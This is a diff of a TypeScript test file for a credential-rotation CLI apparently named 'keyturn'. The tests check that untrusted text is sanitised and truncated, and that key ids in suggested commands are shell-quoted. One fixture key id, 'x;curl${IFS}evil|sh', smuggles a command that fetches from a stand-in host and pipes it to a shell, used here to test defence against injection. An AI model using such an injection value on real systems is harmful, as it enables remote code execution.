@@ -4,9 +4,10 @@ import { describe, expect, test } from 'vitest';
 import { attentionOf } from '../../../src/domain/attention.js';
 import { plainJson, plainLine, plainLines, plainMarkdown, shellWord } from '../../../src/domain/foreignText.js';
 import { newLane } from '../../../src/domain/lane.js';
+import { findingsOf } from '../../../src/domain/reconcile.js';
 import { viewOf } from '../../../src/domain/view.js';
 import { newDebt } from '../../../src/domain/transitions.js';
-import { recordOf, t0 } from './facts.js';
+import { identity, recordOf, t0 } from './facts.js';
 
 /** Acts on a terminal, ends a line, or shows as something else than it is. */
 const acting = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
@@ -51,6 +52,7 @@ describe('foreign text', () => {
 
   test('is cut to a length, megabytes at once', () => {
     expect(plainLine('\u001b[31m'.repeat(300_000), 500)).toHaveLength(500);
+    expect([plainLine('four', 4), plainLine('four!', 4)]).toEqual(['four', 'fou…']);
   });
 
   test('is made plain wherever it stands in a value', () => {
@@ -105,13 +107,17 @@ describe('a word of a command that is shown to be copied', () => {
     fc.assert(fc.property(fc.stringMatching(/^[A-Za-z0-9_.][A-Za-z0-9_.:-]*$/), (id) => shellWord(id) === id));
   });
 
-  test('is what an attention says of a key that a provider has named', () => {
-    const record = recordOf();
-    const [version] = record.versions;
-    if (!version) throw new Error('the record has no version');
-    const debt = newDebt('suspected-orphan', 'x;curl${IFS}evil|sh', version.identity, t0);
-    const lane = { ...newLane('core'), view: viewOf({ ...record, debts: [debt] }, null) };
-    const commands = attentionOf(lane, t0).map(({ command }) => command);
-    expect(commands).toContain("keyturn reconcile core --delete 'x;curl${IFS}evil|sh'");
+  test('is what an attention and a comparison say of a key that a provider has named', () => {
+    const keyId = 'x;curl${IFS}evil|sh';
+    const record = recordOf({ credentialId: 'core', debts: [newDebt('suspected-orphan', keyId, identity, t0)] });
+    const sighting = { keys: [{ keyId: 'key-1' }, { keyId }], account: 'listed', current: 'works' } as const;
+    const compared = { record, sighting: { ...sighting, because: null, code: null }, repointed: null, workflow: null };
+    const lane = { ...newLane('core'), view: viewOf(record, null) };
+    const commands = [
+      ...attentionOf(lane, t0).map(({ command }) => command),
+      ...findingsOf({ ...compared, skewMs: 0, settleMs: 0, nowMs: t0 }).map(({ next }) => next),
+    ];
+    const quoted = "keyturn reconcile core --delete 'x;curl${IFS}evil|sh'";
+    expect(commands.filter((command) => command?.includes('--delete'))).toEqual([quoted, quoted]);
   });
 });
